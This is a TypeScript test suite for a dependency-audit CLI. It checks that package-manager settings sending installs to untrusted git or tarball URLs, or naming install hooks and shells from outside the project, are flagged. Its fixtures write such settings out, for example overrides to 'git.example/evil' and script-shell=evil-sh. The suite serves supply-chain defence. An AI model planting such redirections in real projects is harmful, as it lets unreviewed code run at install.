/**
 * Hostile world: what the package manager's own settings make it install. pnpm ≥ 10 reads
 * `overrides`, `catalog` / `catalogs` and `packageExtensions` from pnpm-workspace.yaml, yarn
 * berry reads `packageExtensions` from `.yarnrc.yml`, and pnpm runs a pnpmfile's `readPackage`
 * hook on every manifest at install. A pull request that sends a package to a git repository
 * or a URL through those files, or adds a pnpmfile, must not leave the audit passing the
 * registry package of that name: the fetched code is an `unvouched-remote` finding, the hook an
 * `unvouched-hook` finding (both exit 3 unless `--allow-incomplete`), a package extension a
 * `package-extension` warning. pnpm ≤ 10 also reads `pnpmfile` and `global-pnpmfile` from the
 * project's `.npmrc`: a pnpmfile named there is an `unvouched-hook` finding too. yarn berry loads
 * the `.yarnrc.yml` `plugins` and runs its `yarnPath` on every command: in the tree, a
 * `yarn-plugin` / `yarn-release` warning; from outside the project, an `unvouched-hook` finding.
 * yarn 1 runs its `.yarnrc` `yarn-path` the same way. The programs and modules a project `.npmrc`
 * makes npm run (`script-shell`, `node-options` `--require`, `git`…): in the tree, an
 * `npmrc-program` warning; from outside the project or on the PATH, an `unvouched-hook` finding.
 * Only the files beside the input are read, never a parent folder's. And a requirements `--hash` cut short (or of an algorithm pip
 * does not take) pins nothing: a `hash-unreadable` finding (docs/security.md, "Dependencies no
 * registry vouches for"). The settings are real files (fixtures/PROVENANCE.md,
 * "The package manager's own settings"), with the entry under test added.
 */
import { readFileSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'vitest';
import { readInputText } from '../../src/lockfiles/index.js';
import { integritiesOf, parseAudit, serveSynthetic, writeIn, type SyntheticPackage } from '../cli/audit-helpers.js';
import { REPO_ROOT } from '../support/run-cli.js';
import { useAuditWorld } from './support/audit-world.js';
import { runHostile } from './support/cli.js';
import { CLI_TEST_TIMEOUT_MS, expectCleanStderr } from './support/expect.js';
import { expectLinear, growth } from './support/linear-time.js';
import { noteCases } from './support/metrics.js';
import { berryLock, pnpmV9Lock } from '../support/lock-texts.js';

const TRUSTED: SyntheticPackage = { name: 'nerq-trusted', version: '4.1.0' };
const EVIL: SyntheticPackage = { name: 'nerq-evil', version: '1.0.0' };
const ANY_SCORE = JSON.stringify({ minScore: 0, minCoverage: 0 });
const fixture = (name: string) => readFileSync(path.join(REPO_ROOT, 'fixtures', 'install-settings', name), 'utf8');
const PNPM_WORKSPACE = fixture('pnpm-workspace.yaml');
const YARNRC = fixture('yarnrc.yml');
const BABEL_YARNRC = fixture('babel.yarnrc.yml');

const world = useAuditWorld((server) => {
  serveSynthetic(server, TRUSTED);
  serveSynthetic(server, EVIL);
  // PyPI: the recorded flask answers; nothing else about it is known.
  server.fallback('GET', '/pypi/');
  server.fallback('GET', '/pypistats/', { status: 404 });
});
const dirs = world.dirs;

const MANIFEST = JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { [TRUSTED.name]: `^${TRUSTED.version}` } }, null, 2);
const PNPM_LOCK = pnpmV9Lock({ name: TRUSTED.name, range: `^${TRUSTED.version}`, version: TRUSTED.version, resolution: '{integrity: INTEGRITY}' });
const YARN_LOCK = berryLock({ name: TRUSTED.name, range: `^${TRUSTED.version}`, version: TRUSTED.version, resolution: `${TRUSTED.name}@npm:${TRUSTED.version}` });
const tarballUrl = () => `${world.server.url('npm')}/${TRUSTED.name}/-/${TRUSTED.name}-${TRUSTED.version}.tgz`;
/** An npm project's package-lock.json (v3) pinning the trusted package as the registry serves it. */
const npmLock = () =>
  JSON.stringify({ name: 'app', lockfileVersion: 3, packages: { '': { dependencies: { [TRUSTED.name]: `^${TRUSTED.version}` } }, [`node_modules/${TRUSTED.name}`]: { version: TRUSTED.version, resolved: tarballUrl(), integrity: integritiesOf(TRUSTED)[TRUSTED.version] } } });
/** A yarn classic (v1) lockfile pinning the trusted package as the registry serves it. */
const yarnV1Lock = () => `# yarn lockfile v1\n\n\n${TRUSTED.name}@^${TRUSTED.version}:\n  version "${TRUSTED.version}"\n  resolved "${tarballUrl()}"\n  integrity ${integritiesOf(TRUSTED)[TRUSTED.version] ?? ''}\n`;

type Report = ReturnType<typeof parseAudit> & { warnings: { code: string; details: Record<string, unknown> }[] };

async function audit(files: Record<string, string>, extra: string[] = []) {
  const dir = dirs.make();
  for (const [name, content] of Object.entries({ ...files, '.nerqrc.json': ANY_SCORE })) writeIn(dir, name, content);
  const run = await runHostile(['audit', dir, '--json', '--timeout', '30', ...extra], { server: world.server });
  return { run, report: parseAudit(run.stdout) as Report };
}

/** A pnpm project (package.json, pnpm-lock.yaml v9) with the real pnpm-workspace.yaml, `edit`ed. */
function pnpmProject(edit: (workspace: string) => string = (w) => w): Record<string, string> {
  const integrity = integritiesOf(TRUSTED)[TRUSTED.version] ?? '';
  return { 'package.json': MANIFEST, 'pnpm-lock.yaml': PNPM_LOCK.replace('INTEGRITY', integrity), 'pnpm-workspace.yaml': edit(PNPM_WORKSPACE) };
}

/** Adds `entry` (indented for the section) as the first line of a top-level `section:`. */
const addTo = (section: string, entry: string) => (workspace: string) => workspace.replace(`\n${section}:\n`, `\n${section}:\n${entry}\n`);

const codes = (report: Report, code: string) => report.warnings.filter((w) => w.code === code);

describe('pnpm-workspace.yaml', () => {
  it('the real file (registry overrides, catalogs and extensions only): no finding, the extensions named, exit 0', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
    noteCases(task);
    const { run, report } = await audit(pnpmProject());
    expectCleanStderr(run.stderr, run.stderr);
    expect(run.code, run.stderr).toBe(0);
    expect(codes(report, 'unvouched-remote')).toEqual([]);
    expect(codes(report, 'unvouched-hook')).toEqual([]);
    expect(codes(report, 'package-extension').map((w) => w.details.package)).toEqual(['@babel/parser', 'jest-circus', 'remark-parse', 'remark-stringify']);
  });

  /** [label, the edit, the package fetched, its host]. */
  const REMOTE: [string, (w: string) => string, string, string][] = [
    ['an override to a git URL', addTo('overrides', `  ${TRUSTED.name}: git+https://git.example/evil/trusted.git`), TRUSTED.name, 'git.example'],
    ['a parent>child override to a tarball URL', addTo('overrides', `  'app>${TRUSTED.name}@^4': https://git.example/evil/trusted-4.1.0.tgz`), TRUSTED.name, 'git.example'],
    ['a catalog entry to a GitHub shorthand', addTo('catalog', `  ${TRUSTED.name}: github:evil/trusted#main`), TRUSTED.name, 'github.com'],
    ['a named catalog entry to a tarball URL', (w) => `${w}\ncatalogs:\n  legacy:\n    ${TRUSTED.name}: https://git.example/evil/t.tgz\n`, TRUSTED.name, 'git.example'],
    ['a package extension adding a git dependency', addTo('packageExtensions', `  ${TRUSTED.name}:\n    dependencies:\n      left-pad: git+ssh://git@git.example/evil/left-pad.git`), 'left-pad', 'git.example'],
  ];
  it.concurrent.for(REMOTE)('%s: an unvouched-remote finding at pnpm-workspace.yaml, exit 3', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, edit, fetched, host], { task, expect }) => {
    noteCases(task);
    const { run, report } = await audit(pnpmProject(edit));
    const context = `${label}: exit ${run.code}\n${run.stderr.slice(0, 500)}`;
    expectCleanStderr(run.stderr, context);
    expect(run.code, context).toBe(3);
    expect(codes(report, 'unvouched-remote').map((w) => [w.details.package, w.details.host, w.details.file]), context).toEqual([[fetched, host, 'pnpm-workspace.yaml']]);
  });

  it('beside a package.json read alone (no lockfile yet): the override to git is an unvouched-remote finding, exit 3', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
    noteCases(task);
    const { 'pnpm-lock.yaml': _lock, ...project } = pnpmProject(addTo('overrides', `  ${TRUSTED.name}: git+https://git.example/evil/trusted.git`));
    const { run, report } = await audit(project);
    expectCleanStderr(run.stderr, run.stderr);
    expect(run.code, run.stderr).toBe(3);
    expect(codes(report, 'unvouched-remote').map((w) => [w.details.package, w.details.file])).toEqual([[TRUSTED.name, 'pnpm-workspace.yaml']]);
  });

  it("beside a package.json read alone: an override's npm: alias is audited as the package it installs", { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
    noteCases(task);
    const { 'pnpm-lock.yaml': _lock, ...project } = pnpmProject(addTo('overrides', `  ${TRUSTED.name}: npm:${EVIL.name}@${EVIL.version}`));
    const { run, report } = await audit(project);
    expect(report.entries.map((e) => `${e.subject.name}@${e.subject.version}`).sort(), run.stderr).toContain(`${EVIL.name}@${EVIL.version}`);
  });

  it('a pnpm-workspace.yaml naming a key twice is refused (exit 2): either value would be the author\'s choice', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
    noteCases(task);
    const dir = dirs.make();
    for (const [name, content] of Object.entries(pnpmProject((w) => `${w}\noverrides:\n  ${TRUSTED.name}: git+https://git.example/evil/trusted.git\n`))) writeIn(dir, name, content);
    const run = await runHostile(['audit', dir, '--json', '--timeout', '30'], { server: world.server });
    expect(run.code, run.stderr).toBe(2);
    expect(run.stderr).toContain('pnpm-workspace.yaml');
  });
});

describe('a pnpmfile', () => {
  const HOOK = 'module.exports = { hooks: { readPackage: (manifest) => manifest } }\n';
  it.concurrent.for([
    ['.pnpmfile.cjs', { '.pnpmfile.cjs': HOOK }, '.pnpmfile.cjs'],
    ['.pnpmfile.mjs', { '.pnpmfile.mjs': 'export const hooks = { readPackage: (manifest) => manifest }\n' }, '.pnpmfile.mjs'],
    ['the pnpmfile setting of pnpm-workspace.yaml', { 'pnpm-workspace.yaml': `${PNPM_WORKSPACE}\npnpmfile: config/hooks.cjs\n` }, 'config/hooks.cjs'],
    ['the globalPnpmfile setting of pnpm-workspace.yaml', { 'pnpm-workspace.yaml': `${PNPM_WORKSPACE}\nglobalPnpmfile: /opt/pnpm/global.cjs\n` }, '/opt/pnpm/global.cjs'],
    ['the pnpmfile setting of .npmrc', { '.npmrc': 'auto-install-peers=true\npnpmfile=config/hooks.cjs\n' }, 'config/hooks.cjs'],
    ['the global-pnpmfile setting of .npmrc', { '.npmrc': 'global-pnpmfile = /opt/pnpm/global.cjs\n' }, '/opt/pnpm/global.cjs'],
  ] as [string, Record<string, string>, string][])('%s: an unvouched-hook finding, exit 3 (0 with --allow-incomplete)', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, files, hook], { task, expect }) => {
    noteCases(task);
    const project = { ...pnpmProject(), ...files };
    const { run, report } = await audit(project);
    const context = `${label}: exit ${run.code}\n${run.stderr.slice(0, 500)}`;
    expectCleanStderr(run.stderr, context);
    expect(run.code, context).toBe(3);
    expect(codes(report, 'unvouched-hook').map((w) => w.details.hook), context).toEqual([hook]);
    const allowed = await audit(project, ['--allow-incomplete']);
    expect(allowed.run.code, allowed.run.stderr).not.toBe(3);
  });
});

describe('.yarnrc.yml packageExtensions (yarn berry)', () => {
  const yarnProject = (yarnrc: string) => ({ 'package.json': MANIFEST, 'yarn.lock': YARN_LOCK, '.yarnrc.yml': yarnrc });
  it('the real file: each extension named, no unvouched finding', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
    noteCases(task);
    const { run, report } = await audit(yarnProject(YARNRC));
    expectCleanStderr(run.stderr, run.stderr);
    expect(run.code, run.stderr).toBe(0);
    expect(codes(report, 'unvouched-remote')).toEqual([]);
    expect(codes(report, 'package-extension').length).toBe(6);
  });

  it('an extension adding a dependency from a tarball URL: an unvouched-remote finding at .yarnrc.yml, exit 3', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
    noteCases(task);
    const evil = YARNRC.replace('packageExtensions:\n', `packageExtensions:\n  "${TRUSTED.name}@*":\n    dependencies:\n      left-pad: "https://git.example/evil/left-pad.tgz"\n`);
    const { run, report } = await audit(yarnProject(evil));
    expectCleanStderr(run.stderr, run.stderr);
    expect(run.code, run.stderr).toBe(3);
    expect(codes(report, 'unvouched-remote').map((w) => [w.details.package, w.details.host, w.details.file])).toEqual([['left-pad', 'git.example', '.yarnrc.yml']]);
  });
});

describe('.yarnrc.yml plugins and yarnPath (yarn berry)', () => {
  const yarnProject = (yarnrc: string) => ({ 'package.json': MANIFEST, 'yarn.lock': YARN_LOCK, '.yarnrc.yml': yarnrc });
  it("babel's real file (two plugins from a third party's URLs, a release in the tree): warnings naming them, not incomplete", { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
    noteCases(task);
    const { run, report } = await audit(yarnProject(BABEL_YARNRC));
    expectCleanStderr(run.stderr, run.stderr);
    expect(run.code, run.stderr).toBe(0);
    expect(codes(report, 'unvouched-hook')).toEqual([]);
    expect(codes(report, 'yarn-plugin').map((w) => [w.details.path, w.details.origin])).toEqual([
      ['.yarn/plugins/@yarnpkg/plugin-babel-release-tool.cjs', 'third-party'],
      ['.yarn/plugins/@yarnpkg/plugin-conditions.cjs', 'third-party'],
    ]);
    expect(codes(report, 'yarn-release').map((w) => w.details.release)).toEqual(['.yarn/releases/yarn-4.0.1-git.20231104.hash-afacd23.cjs']);
  });

  it.concurrent.for([
    ['a plugin from a parent folder', BABEL_YARNRC.replace('path: .yarn/plugins/@yarnpkg/plugin-conditions.cjs', 'path: ../../shared/plugin-conditions.cjs'), '../../shared/plugin-conditions.cjs'],
    ['a yarnPath outside the project', BABEL_YARNRC.replace(/^yarnPath: .*$/m, 'yarnPath: /usr/local/lib/yarn/yarn.cjs'), '/usr/local/lib/yarn/yarn.cjs'],
  ] as [string, string, string][])('%s: an unvouched-hook finding at .yarnrc.yml, exit 3 (0 with --allow-incomplete)', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, yarnrc, hook], { task, expect }) => {
    noteCases(task);
    const project = yarnProject(yarnrc);
    const { run, report } = await audit(project);
    const context = `${label}: exit ${run.code}\n${run.stderr.slice(0, 500)}`;
    expectCleanStderr(run.stderr, context);
    expect(run.code, context).toBe(3);
    expect(codes(report, 'unvouched-hook').map((w) => [w.details.hook, w.details.file, w.details.manager]), context).toEqual([[hook, '.yarnrc.yml', 'yarn']]);
    const allowed = await audit(project, ['--allow-incomplete']);
    expect(allowed.run.code, allowed.run.stderr).not.toBe(3);
  });
});

describe("the programs and modules a project .npmrc makes npm run", () => {
  const npmProject = (npmrc: string) => ({ 'package.json': MANIFEST, 'package-lock.json': npmLock(), '.npmrc': npmrc });
  it('in the tree (a script-shell, a --require, a git binary of the project): npmrc-program warnings naming them, not incomplete; a system shell nothing', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
    noteCases(task);
    const npmrc = ['save-exact=true', 'script-shell=./tools/shell.sh', 'node-options="--max-old-space-size=4096 --require ./hooks/pre.cjs"', 'git=./tools/git', ''].join('\n');
    const { run, report } = await audit(npmProject(npmrc));
    expectCleanStderr(run.stderr, run.stderr);
    expect(run.code, run.stderr).toBe(0);
    expect(codes(report, 'unvouched-hook')).toEqual([]);
    expect(codes(report, 'npmrc-program').map((w) => [w.details.setting, w.details.program, w.details.line])).toEqual([
      ['script-shell', './tools/shell.sh', 2],
      ['git', './tools/git', 4],
      ['node-options', './hooks/pre.cjs', 3],
    ]);
    const system = await audit(npmProject('script-shell=/bin/bash\ngit=git\n'));
    expect(system.run.code, system.run.stderr).toBe(0);
    expect(system.report.warnings.filter((w) => ['npmrc-program', 'unvouched-hook'].includes(w.code))).toEqual([]);
  });

  it.concurrent.for([
    ['a script-shell above the project', 'package-lock.json', 'script-shell=../../bin/sh\n', 'script-shell', '../../bin/sh'],
    ['a node-options --require of an absolute path', 'package-lock.json', 'node-options=--require /tmp/preload.cjs\n', 'node-options', '/tmp/preload.cjs'],
    ['a shell on the PATH that is no system shell', 'pnpm-lock.yaml', 'script-shell=evil-sh\n', 'script-shell', 'evil-sh'],
    ['a git binary in a home folder', 'package-lock.json', 'git=~/bin/git\n', 'git', '~/bin/git'],
  ] as [string, string, string, string, string][])('%s: an unvouched-hook finding at .npmrc, exit 3 (0 with --allow-incomplete)', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, lockfile, npmrc, setting, hook], { task, expect }) => {
    noteCases(task);
    const project = lockfile === 'pnpm-lock.yaml' ? { ...pnpmProject(), '.npmrc': npmrc } : npmProject(npmrc);
    const { run, report } = await audit(project);
    const context = `${label}: exit ${run.code}\n${run.stderr.slice(0, 500)}`;
    expectCleanStderr(run.stderr, context);
    expect(run.code, context).toBe(3);
    expect(codes(report, 'unvouched-hook').map((w) => [w.details.hook, w.details.setting, w.details.file, w.details.manager]), context).toEqual([[hook, setting, '.npmrc', 'npm']]);
    const allowed = await audit(project, ['--allow-incomplete']);
    expect(allowed.run.code, allowed.run.stderr).not.toBe(3);
  });
});

describe('the table names what .npmrc makes npm run from outside the project', () => {
  it('the summary counts it apart from pnpmfiles, and the exit-3 hint names it', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
    noteCases(task);
    const dir = dirs.make();
    const files = { 'package.json': MANIFEST, 'package-lock.json': npmLock(), '.npmrc': 'script-shell=../../bin/sh\n', '.nerqrc.json': ANY_SCORE };
    for (const [name, content] of Object.entries(files)) writeIn(dir, name, content);
    const run = await runHostile(['audit', dir, '--format', 'table', '--timeout', '30'], { server: world.server });
    expect(run.code, run.stderr).toBe(3);
    const text = run.stdout.replace(/\s+/g, ' ');
    expect(text).toContain("INCOMPLETE: the 1 package passes the policy; 1 program or module from outside the project that the package manager's settings name");
    expect(text).not.toContain('pnpmfile whose install hooks');
    expect(text).toContain('or the program a setting names from outside the project');
  });
});

describe("pnpm-workspace.yaml's nodeOptions", () => {
  it('a module from outside the project it makes node load: an unvouched-hook finding at pnpm-workspace.yaml, exit 3', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
    noteCases(task);
    const { run, report } = await audit(pnpmProject((w) => `${w}\nnodeOptions: --import /opt/shared/preload.mjs\n`));
    expectCleanStderr(run.stderr, run.stderr);
    expect(run.code, run.stderr).toBe(3);
    expect(codes(report, 'unvouched-hook').map((w) => [w.details.hook, w.details.setting, w.details.file, w.details.manager])).toEqual([['/opt/shared/preload.mjs', 'nodeOptions', 'pnpm-workspace.yaml', 'pnpm']]);
  });
});

describe("yarn classic's .yarnrc yarn-path", () => {
  const classicProject = (yarnrc: string) => ({ 'package.json': MANIFEST, 'yarn.lock': yarnV1Lock(), '.yarnrc': yarnrc });
  it('a release in the tree (unquoted, beside --install lines): a yarn-release warning, not incomplete', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
    noteCases(task);
    const { run, report } = await audit(classicProject('--install.frozen-lockfile true\nyarn-path ./.yarn/releases/yarn-1.22.22.cjs\n'));
    expectCleanStderr(run.stderr, run.stderr);
    expect(run.code, run.stderr).toBe(0);
    expect(codes(report, 'yarn-release').map((w) => [w.details.release, w.details.file, w.details.line])).toEqual([['./.yarn/releases/yarn-1.22.22.cjs', '.yarnrc', 2]]);
  });

  // yarn 1 strips a byte-order mark before it parses the file: the first line is read all the same.
  it.for([
    ['', ''],
    [' (after a byte-order mark)', '\ufeff'],
  ])('a release outside the project%s: an unvouched-hook finding, exit 3', { timeout: CLI_TEST_TIMEOUT_MS }, async ([, bom], { task, expect }) => {
    noteCases(task);
    const { run, report } = await audit(classicProject(`${bom}yarn-path "/usr/local/share/yarn/yarn-1.js"\n`));
    expectCleanStderr(run.stderr, run.stderr);
    expect(run.code, run.stderr).toBe(3);
    expect(codes(report, 'unvouched-hook').map((w) => [w.details.hook, w.details.setting, w.details.manager])).toEqual([['/usr/local/share/yarn/yarn-1.js', 'yarn-path', 'yarn']]);
  });
});

describe("a parent folder's settings are never read", () => {
  /** The parent of the audited folder names a pnpmfile, a yarn release and plugin from elsewhere, and holds a pnpmfile itself. */
  const PARENT = {
    '.npmrc': 'pnpmfile=hooks.cjs\nglobal-pnpmfile=/opt/pnpm/global.cjs\nscript-shell=/opt/evil/sh\nnode-options=--require ./app/evil.cjs\n',
    '.yarnrc': 'yarn-path /opt/yarn/yarn-1.js\n',
    'pnpm-workspace.yaml': 'packages:\n  - app\npnpmfile: hooks.cjs\n',
    '.pnpmfile.cjs': 'module.exports = { hooks: {} }\n',
    '.yarnrc.yml': 'plugins:\n  - /opt/yarn/plugin.cjs\nyarnPath: /opt/yarn/yarn.cjs\n',
  };
  const integrity = () => integritiesOf(TRUSTED)[TRUSTED.version] ?? '';
  it.concurrent.for([
    ['a pnpm project', () => ({ 'app/package.json': MANIFEST, 'app/pnpm-lock.yaml': PNPM_LOCK.replace('INTEGRITY', integrity()) })],
    ['a yarn berry project', () => ({ 'app/package.json': MANIFEST, 'app/yarn.lock': YARN_LOCK })],
    ['a yarn classic project', () => ({ 'app/package.json': MANIFEST, 'app/yarn.lock': yarnV1Lock() })],
    ['an npm project', () => ({ 'app/package.json': MANIFEST, 'app/package-lock.json': npmLock() })],
  ] as [string, () => Record<string, string>][])('%s in a subfolder: no finding from the parent, exit 0', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, files], { task, expect }) => {
    noteCases(task);
    const dir = dirs.make();
    for (const [name, content] of Object.entries({ ...PARENT, ...files(), 'app/.nerqrc.json': ANY_SCORE })) writeIn(dir, name, content);
    const run = await runHostile(['audit', path.join(dir, 'app'), '--json', '--timeout', '30'], { server: world.server });
    const report = parseAudit(run.stdout) as Report;
    const context = `${label}: exit ${run.code}\n${run.stderr.slice(0, 500)}`;
    expectCleanStderr(run.stderr, context);
    expect(run.code, context).toBe(0);
    expect(report.warnings.filter((w) => ['unvouched-hook', 'yarn-plugin', 'yarn-release', 'npmrc-program'].includes(w.code)), context).toEqual([]);
  });
});

describe('a settings file that links out of the tree', () => {
  /** Beside each project, its settings files link to a copy outside the audited folder naming code from elsewhere. */
  const OUTSIDE = {
    '.npmrc': 'pnpmfile=/opt/pnpm/hooks.cjs\nscript-shell=/opt/evil/sh\n',
    'pnpm-workspace.yaml': 'packages:\n  - .\npnpmfile: /opt/pnpm/hooks.cjs\n',
    '.yarnrc.yml': 'yarnPath: /opt/yarn/yarn.cjs\n',
    '.yarnrc': 'yarn-path /opt/yarn/yarn-1.js\n',
  };
  const integrity = () => integritiesOf(TRUSTED)[TRUSTED.version] ?? '';
  it.concurrent.for([
    ['a pnpm project', () => ({ 'package.json': MANIFEST, 'pnpm-lock.yaml': PNPM_LOCK.replace('INTEGRITY', integrity()) }), ['.npmrc', 'pnpm-workspace.yaml']],
    ['a yarn berry project', () => ({ 'package.json': MANIFEST, 'yarn.lock': YARN_LOCK }), ['.yarnrc.yml']],
    ['a yarn classic project', () => ({ 'package.json': MANIFEST, 'yarn.lock': yarnV1Lock() }), ['.yarnrc', '.yarnrc.yml']],
    ['an npm project', () => ({ 'package.json': MANIFEST, 'package-lock.json': npmLock() }), ['.npmrc']],
  ] as [string, () => Record<string, string>, string[]][])('%s: not read, and said so (input-note), exit 0', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, files, named], { task, expect }) => {
    noteCases(task);
    const outside = dirs.make();
    const dir = dirs.make();
    for (const [name, content] of Object.entries(OUTSIDE)) {
      writeIn(outside, name, content);
      symlinkSync(path.join(outside, name), path.join(dir, name));
    }
    for (const [name, content] of Object.entries({ ...files(), '.nerqrc.json': ANY_SCORE })) writeIn(dir, name, content);
    const run = await runHostile(['audit', dir, '--json', '--timeout', '30'], { server: world.server });
    const report = parseAudit(run.stdout) as Report;
    const context = `${label}: exit ${run.code}\n${run.stderr.slice(0, 500)}`;
    expectCleanStderr(run.stderr, context);
    expect(run.code, context).toBe(0);
    expect(report.warnings.filter((w) => ['unvouched-hook', 'yarn-plugin', 'yarn-release', 'npmrc-program'].includes(w.code)), context).toEqual([]);
    // Each settings file the package manager reads beside this input is named as unread; no other.
    const unread = codes(report, 'input-note')
      .map((w) => /: ([^:]+): resolves \(through a symbolic link\) outside the audited directory/.exec((w as { message?: string }).message ?? '')?.[1])
      .filter((f): f is string => f !== undefined);
    expect(unread.sort(), context).toEqual([...named].sort());
  });
});

describe('a requirements --hash that pins nothing', () => {
  /** flask 3.1.3's wheel, as PyPI publishes it (fixtures/http/pypi/pypi/flask/json.json). */
  const WHEEL = 'f4bcbefc124291925f1a26446da31a5178f9483862233b23c0c96a20701f670c';
  it.concurrent.for([
    ['a sha256 cut to 3 digits', '--hash=sha256:abc'],
    ['a sha256 one digit short', `--hash=sha256:${WHEEL.slice(0, -1)}`],
    ['md5, which pip does not take', '--hash=md5:0123456789abcdef0123456789abcdef'],
    ['not hex', `--hash=sha256:${'z'.repeat(64)}`],
  ])('%s: a hash-unreadable finding, exit 3', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, hash], { task, expect }) => {
    noteCases(task);
    const { run, report } = await audit({ 'requirements.txt': `flask==3.1.3 ${hash}\n` });
    const context = `${label}: exit ${run.code}\n${run.stderr.slice(0, 500)}`;
    expectCleanStderr(run.stderr, context);
    expect(run.code, context).toBe(3);
    expect(codes(report, 'hash-unreadable').map((w) => [w.details.package, w.details.line]), context).toEqual([['flask', 1]]);
  });

  it('the full digest beside a short one: still a finding for the short one', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
    noteCases(task);
    const { report } = await audit({ 'requirements.txt': `flask==3.1.3 \\\n    --hash=sha256:${WHEEL} \\\n    --hash=sha256:abc\n` });
    expect(codes(report, 'hash-unreadable').map((w) => w.details.hashes)).toEqual([['sha256:abc']]);
  });
});

describe('reading the settings takes time linear in their size', () => {
  const lock = PNPM_LOCK.replace('INTEGRITY', 'sha512-AA==');
  const PACKAGE_LOCK = JSON.stringify({ name: 'app', lockfileVersion: 3, packages: { '': { name: 'app' } } });
  const workspace = (k: number) =>
    [
      'overrides:',
      ...Array.from({ length: k }, (_, i) => `  pkg-${i}@<1: git+https://git.example/o/r${i}.git`),
      'catalogs:',
      '  c:',
      ...Array.from({ length: k }, (_, i) => `    cat-${i}: ^1.0.${i}`),
      'packageExtensions:',
      ...Array.from({ length: k }, (_, i) => `  ext-${i}:\n    dependencies:\n      dep-${i}: ^1`),
      '',
    ].join('\n');
  it('pnpm-workspace.yaml with k overrides, catalog entries and extensions', ({ task }) => {
    noteCases(task);
    const g = growth((k) => readInputText(lock, 'pnpm-lock.yaml', { settings: { 'pnpm-workspace.yaml': workspace(k) } }), 1000);
    expectLinear(task, 'pnpm-workspace.yaml', g);
  });
  it('.yarnrc.yml with k package extensions', ({ task }) => {
    noteCases(task);
    const yarnrc = (k: number) => ['packageExtensions:', ...Array.from({ length: k }, (_, i) => `  ext-${i}@*:\n    dependencies:\n      dep-${i}: "*"`), ''].join('\n');
    const g = growth((k) => readInputText(YARN_LOCK, 'yarn.lock', { settings: { '.yarnrc.yml': yarnrc(k) } }), 1000);
    expectLinear(task, '.yarnrc.yml', g);
  });
  it('.yarnrc.yml with k plugins and k other settings', ({ task }) => {
    noteCases(task);
    const yarnrc = (k: number) =>
      [...Array.from({ length: k }, (_, i) => `setting${i}: x`), 'plugins:', ...Array.from({ length: k }, (_, i) => `  - path: ${'../'.repeat(i % 3)}.yarn/plugins/p${i}.cjs\n    spec: "@yarnpkg/plugin-p${i}"`), 'yarnPath: .yarn/releases/y.cjs', ''].join('\n');
    const g = growth((k) => readInputText(YARN_LOCK, 'yarn.lock', { settings: { '.yarnrc.yml': yarnrc(k) } }), 1000);
    expectLinear(task, '.yarnrc.yml plugins', g);
  });
  it('.npmrc with k settings and a node-options of k module flags and quoted words', ({ task }) => {
    noteCases(task);
    const npmrc = (k: number) =>
      [...Array.from({ length: k }, (_, i) => `key-${i} = value`), `node-options="${Array.from({ length: k }, (_, i) => `--require ./h${i}.cjs \\"a b\\\\ ${i}\\" --import=../o${i}.mjs -r`).join(' ')}"`, 'script-shell=./sh', ''].join('\n');
    const g = growth((k) => readInputText(PACKAGE_LOCK, 'package-lock.json', { settings: { '.npmrc': npmrc(k) } }), 1000);
    expectLinear(task, '.npmrc node-options', g);
  });
  it('.yarnrc with k lines and k yarn-path lines', ({ task }) => {
    noteCases(task);
    const yarnrc = (k: number) => [...Array.from({ length: k }, (_, i) => `--install.flag-${i} "${'x'.repeat(i % 50)}`), ...Array.from({ length: k }, (_, i) => `yarn-path ${'../'.repeat(i % 3)}y${i}.js`), ''].join('\n');
    const g = growth((k) => readInputText('# yarn lockfile v1\n\n', 'yarn.lock', { settings: { '.yarnrc': yarnrc(k) } }), 1000);
    expectLinear(task, '.yarnrc', g);
  });
  it('.npmrc with k settings and k pnpmfiles', ({ task }) => {
    noteCases(task);
    const npmrc = (k: number) => [...Array.from({ length: k }, (_, i) => `key-${i} = value ${'='.repeat(i % 7)}`), ...Array.from({ length: k }, (_, i) => `pnpmfile[] = hooks/h${i}.cjs`), ''].join('\n');
    const g = growth((k) => readInputText(lock, 'pnpm-lock.yaml', { settings: { '.npmrc': npmrc(k) } }), 1000);
    expectLinear(task, '.npmrc', g);
  });
});
